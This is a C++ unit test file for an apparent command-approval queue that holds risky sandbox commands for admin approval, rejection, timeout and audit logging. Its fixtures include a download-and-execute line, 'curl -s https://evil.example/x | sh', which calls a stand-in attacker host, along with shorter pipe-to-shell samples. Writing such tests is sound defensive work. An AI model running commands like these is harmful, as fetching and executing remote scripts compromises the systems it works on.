#include "controller/precheck/approvals.h"

#include <thread>

#include "absl/strings/match.h"
#include "controller/store/memory_store.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace moat::controller::precheck {
namespace {

using ::testing::HasSubstr;

Verdict High() { return ScanCommand("curl -s https://evil.example/x | sh"); }

class ApprovalQueueTest : public ::testing::Test {
 protected:
  MemoryStore store_;
  FakeClock clock_;
  ApprovalQueue queue_{&store_, &clock_, absl::Seconds(20), /*max_pending=*/2};
};

TEST_F(ApprovalQueueTest, AnApprovedCommandIsReleased) {
  auto a = queue_.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok()) << a.status();
  EXPECT_EQ(a->state, kPendingApproval);
  EXPECT_THAT(a->tags, ::testing::Contains("download-exec"));
  ASSERT_EQ(queue_.Pending().size(), 1u);
  absl::Status waited = absl::UnknownError("not yet");
  std::thread waiter([&] { waited = queue_.Wait(a->id); });
  absl::SleepFor(absl::Milliseconds(20));
  auto d = queue_.Decide(a->id, true, "admin", "looked fine");
  ASSERT_TRUE(d.ok()) << d.status();
  waiter.join();
  EXPECT_TRUE(waited.ok()) << waited;
  EXPECT_EQ(queue_.Counts().approved, 1);
  EXPECT_EQ(queue_.Counts().pending, 0);
  EXPECT_TRUE(absl::IsNotFound(queue_.Decide(a->id, false, "admin", "").status()));
}

TEST_F(ApprovalQueueTest, ARejectedCommandIsRefusedWithTheReason) {
  auto a = queue_.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok());
  absl::Status waited;
  std::thread waiter([&] { waited = queue_.Wait(a->id); });
  absl::SleepFor(absl::Milliseconds(20));
  ASSERT_TRUE(queue_.Decide(a->id, false, "admin", "downloads a script").ok());
  waiter.join();
  EXPECT_TRUE(absl::IsPermissionDenied(waited)) << waited;
  EXPECT_THAT(waited.message(), HasSubstr("downloads a script"));
  EXPECT_THAT(waited.message(), HasSubstr("download-exec"));
}

TEST(ApprovalTimeoutTest, NoDecisionRejectsAfterTheTimeout) {
  MemoryStore store;
  FakeClock clock;
  ApprovalQueue queue(&store, &clock, absl::Milliseconds(100), 2);
  auto a = queue.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok());
  absl::Status waited = queue.Wait(a->id);
  EXPECT_TRUE(absl::IsPermissionDenied(waited)) << waited;
  EXPECT_THAT(waited.message(), HasSubstr("not approved in time"));
  EXPECT_EQ(queue.Counts().timed_out, 1);
  EXPECT_TRUE(queue.Pending().empty());
  // Too late to approve.
  EXPECT_FALSE(queue.Decide(a->id, true, "admin", "").ok());
}

TEST_F(ApprovalQueueTest, ATenantCannotHoldMoreThanMaxPending) {
  ASSERT_TRUE(queue_.Submit("acme", "sb-1", "a", High()).ok());
  ASSERT_TRUE(queue_.Submit("acme", "sb-1", "b", High()).ok());
  auto third = queue_.Submit("acme", "sb-1", "c", High());
  EXPECT_TRUE(absl::IsResourceExhausted(third.status()));
  EXPECT_THAT(third.status().message(), HasSubstr("precheck.max_pending"));
  EXPECT_TRUE(queue_.Submit("globex", "sb-2", "d", High()).ok());  // Its own allowance.
}

TEST_F(ApprovalQueueTest, TheAuditTrailRecordsHoldsDecisionsAndTaggedRuns) {
  ASSERT_TRUE(queue_
                  .Audit("acme", "sb-1", "os.system('a | b')",
                         Scan("os.system('a | b')", Language::kPython), "Ran")
                  .ok());
  clock_.Advance(absl::Seconds(1));
  auto a = queue_.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok());
  clock_.Advance(absl::Seconds(1));
  ASSERT_TRUE(queue_.Decide(a->id, false, "admin", "no").ok());
  auto trail = queue_.AuditTrail(100);
  ASSERT_TRUE(trail.ok());
  ASSERT_EQ(trail->size(), 3u);
  EXPECT_THAT((*trail)[0], HasSubstr("\"state\":\"Ran\""));
  EXPECT_THAT((*trail)[0], HasSubstr("shell-pipe"));
  EXPECT_THAT((*trail)[1], HasSubstr("PendingApproval"));
  EXPECT_THAT((*trail)[2], HasSubstr("\"state\":\"Rejected\""));
  EXPECT_THAT((*trail)[2], HasSubstr("\"by\":\"admin\""));
  EXPECT_EQ(queue_.AuditTrail(1)->size(), 1u);
}

}  // namespace
}  // namespace moat::controller::precheck
